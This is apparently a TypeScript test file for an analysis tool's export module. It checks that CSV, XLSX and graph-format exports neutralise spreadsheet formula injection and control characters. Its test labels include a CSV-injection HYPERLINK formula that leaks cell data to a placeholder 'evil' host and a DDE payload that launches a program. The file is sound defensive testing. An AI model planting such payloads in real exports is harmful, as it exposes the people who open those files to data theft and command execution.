// Hostile labels and names in every export, read back with independent readers: no formula, no broken line or quote.
import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { XMLParser } from "fast-xml-parser";
import { describe, expect, it } from "vitest";
import { exportResult, type ExportMeta } from "../../../analysis/export/index.ts";
import { csvText } from "../../../analysis/export/text.ts";
import { uniqueNames } from "../../../analysis/export/matrix.ts";
import { parseLongCsv, parseMatrixCsv } from "../../../analysis/csv/index.ts";
import type { AnalysisEdge, AnalysisNode, AnalysisResult } from "../../../analysis/types.ts";
import { readDlLikeIgraph } from "./dl-reader.ts";
import { edgeMap, readPajek, text } from "./helpers.ts";

/** Labels an attacker (or a careless paste) could set: formulas, separators, quotes, line breaks, bidi. */
const LABELS = [
  `=HYPERLINK("http://evil/?"&A2,"klikk")`, "+47 cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
  "'=already quoted", "Ola\nNordmann\n*Arcs\n1 2 5", 'Se "A" \\', "Ad\u202Emin\u2028x\u000Bz", "-1.5", "2",
];
const SCORES = [1.5, 4.25, 3, 5, 2.2, 3.5, 1, 4, 2.75, 3.1, 4.9];
const node = (i: number): AnalysisNode => ({
  id: `id${i}`, role: "PPT", label: LABELS[i], responded: true, outMean: 3, inMean: 3, weakOut: 0, weakIn: 0, betweenness: 0,
});
const nodes = LABELS.map((_, i) => node(i));
const edges: AnalysisEdge[] = SCORES.map((score, i) => ({ source: `id${i}`, target: `id${i + 1}`, score, n: 7, weak: score <= 3.5, band: score <= 3.5 ? "weak" : "strong" }));
const result: AnalysisResult = {
  threshold: 3.5, nodes, edges, asymmetries: [],
  weakLinks: edges.filter((e) => e.weak).map(({ source, target, score }) => ({ source, target, score })).sort((a, b) => a.score - b.score),
  summary: { nodes: nodes.length, raters: 11, responseRate: 1, meanScore: 3, weakShare: 0.5, reciprocity: null, alpha: null },
};
const meta: ExportMeta = {
  instrument: { id: "rc7", version: "1.0.0" }, round: { id: "r1", name: "-Vår=2026" }, case: { code: "=cmd()", district: "@Østbyen" },
  threshold: 3.5, dimension: "all", generatedAt: "2026-01-01T00:00:00.000Z",
};

/** What a spreadsheet would run: a field starting with = + - @ tab or CR that is not a plain number. */
const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?$/.test(cell);
/** The neutralised form of a label as every CSV flavour must hold it. */
const neutral = (s: string) => (/^'*[=+\-@\t\r]/.test(s) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(s) ? `'${s}` : s);
const names = uniqueNames(nodes);

describe("CSV exports neutralise formulas in every cell and keep numbers numbers", () => {
  it.each([
    ["csv", { delimiter: "," }, "."],
    ["csv-nb", { delimiter: ";", bom: true }, ","],
  ] as const)("%s: header and row labels neutralised, scores as numbers, read back by csv-parse", async (format, options, decimal) => {
    const rows: string[][] = parse(text((await exportResult(format, result, meta)).body), options);
    for (const cell of rows.flat()) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
    expect(rows[0]).toEqual(["rater\\rated", ...names.map(neutral)]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(names.map(neutral));
    rows.slice(1).forEach((r, i) => r.slice(1).forEach((cell, j) => {
      const score = SCORES[i] !== undefined && j === i + 1 ? SCORES[i] : null;
      expect(cell === "" ? null : Number(cell.replace(decimal, "."))).toBe(score);
    }));
    // Laget's own reader refuses names that could never have come in through the door (line breaks, bidi controls).
    const csv = text((await exportResult(format, result, meta)).body);
    expect(() => parseMatrixCsv(csv, "x.csv")).toThrow(/one line|text-direction/);
  });

  it("csv-long: names, case and round neutralised, values numbers, every cell checked", async () => {
    const rows: Record<string, string>[] = parse(text((await exportResult("csv-long", result, meta)).body), { columns: true });
    for (const r of rows) for (const cell of Object.values(r)) expect(dangerous(cell), JSON.stringify(cell)).toBe(false);
    expect(rows.map((r) => [r.case, r.round, r.rater_id, r.target_id, Number(r.value)])).toEqual(
      edges.map((e) => ["'=cmd()", "'-Vår=2026", e.source, e.target, e.score]),
    );
  });

  it("the shared CSV text helper (also used by the aggregate export): negative deltas stay numbers, text is neutralised", () => {
    const body = csvText([["group", "mean_delta"], ["=1+1", "-0.5"], ["-Heimdal", "-0,25"], ["@x", -1.5], ["'@x", "+2"]], ";", "\n");
    expect(parse(body, { delimiter: ";" })).toEqual([["group", "mean_delta"], ["'=1+1", "-0.5"], ["'-Heimdal", "-0,25"], ["'@x", "-1.5"], ["''@x", "+2"]]);
  });

  it("a label that only looks like a formula survives the round trip through Laget's own reader", async () => {
    const plain = { ...result, nodes: nodes.map((n, i) => ({ ...n, label: ["=A1", "-x", "@y", "'=z", "+p"][i % 5] + i })) };
    const csv = text((await exportResult("csv", plain, meta)).body);
    expect(parseMatrixCsv(csv, "x.csv").labels).toEqual(uniqueNames(plain.nodes));
    const long = text((await exportResult("csv-long", plain, meta)).body);
    expect(parseLongCsv(long, "l.csv")[0]).toMatchObject({ case: "=cmd()", round: "-Vår=2026" });
  });
});

describe("XLSX, GraphML, GEXF, DL and Pajek keep hostile labels harmless", () => {
  it("xlsx: every label is a string cell, no cell is a formula", async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from((await exportResult("xlsx", result, meta)).body as Uint8Array) as unknown as ArrayBuffer);
    let cells = 0;
    wb.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      cells++;
      expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
    })));
    expect(cells).toBeGreaterThan(100);
    // Names on one line, nothing XML forbids, still distinct: "\t=1+1" and "\r=1+1" become " =1+1" and " =1+1 (2)".
    const expected = names.map((n) => n.replace(/[\t\r\n\u2028]+/g, " ").replaceAll("\u000B", ""));
    expected[5] = `${expected[5]} (2)`;
    const matrix = wb.getWorksheet("Matrise")!;
    expect((matrix.getRow(1).values as unknown[]).slice(2)).toEqual(expected);
    expected.forEach((n, i) => expect(matrix.getRow(i + 2).getCell(1).value).toBe(n));
    const weak = wb.getWorksheet("Svake lenker")!;
    expect(weak.getRow(2).getCell(1).value).toBe(expected[Number(result.weakLinks[0].source.slice(2))]);
  });

  it("graphml and gexf: labels escaped, read back exactly by an XML parser", async () => {
    const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: "@", parseTagValue: false, parseAttributeValue: false, htmlEntities: true, isArray: (n) => ["node", "data", "attvalue"].includes(n) });
    const gexf = xml.parse(text((await exportResult("gexf", result, meta)).body)).gexf;
    expect(gexf.graph.nodes.node.map((n: Record<string, string>) => n["@label"])).toEqual(LABELS.map((l) => l.replaceAll("\u000B", "")));
    const graphml = xml.parse(text((await exportResult("graphml", result, meta)).body)).graphml;
    const labels = graphml.graph.node.map((n: { data: Record<string, string>[] }) => n.data.find((d) => d["@key"] === "n_label")!["#text"]);
    expect(labels).toEqual(LABELS.map((l) => l.replaceAll("\u000B", "")));
  });

  it("dl: one line per edge, every label one token, read by the igraph grammar", async () => {
    const body = text((await exportResult("dl", result, meta)).body);
    expect(body.split("\n")).toHaveLength(6 + edges.length + 1);
    const dl = readDlLikeIgraph(body);
    expect(dl.n).toBe(nodes.length);
    expect(dl.names).toHaveLength(nodes.length);
    for (const name of dl.names) expect(name).toMatch(/^[^\s,"=:;\p{C}]+$/u);
    expect(new Set(dl.names).size).toBe(nodes.length);
    expect(new Map(dl.edges.map(([a, b, w]) => [`id${a}→id${b}`, w]))).toEqual(edgeMap(result));
  });

  it("pajek: one quoted label per vertex line, no line break, quote or backslash inside; NetworkX reads it when installed", async () => {
    const body = text((await exportResult("pajek", result, meta)).body);
    for (const ch of ["\r", "\u000B", "\u000C", "\u0085", "\u2028", "\u2029", "\u202E"]) expect(body).not.toContain(ch);
    const net = readPajek(body);
    expect(net.labels).toHaveLength(nodes.length);
    for (const label of net.labels) expect(label).not.toMatch(/["\\\n]/);
    expect(net.arcs).toEqual(edges.map((e, i) => [i + 1, i + 2, e.score]));
    expect(net.comments).toContain("round: -Vår=2026");
    if (spawnSync("python3", ["-c", "import networkx"]).status !== 0) return;
    const path = join(mkdtempSync(join(tmpdir(), "laget-inj-")), "g.net");
    writeFileSync(path, body);
    const run = spawnSync("python3", ["-c", "import networkx as nx, sys; g = nx.read_pajek(sys.argv[1]); print(g.number_of_nodes(), g.number_of_edges())", path], { encoding: "utf8" });
    expect(run.stdout.trim()).toBe(`${nodes.length} ${edges.length}`);
  });
});
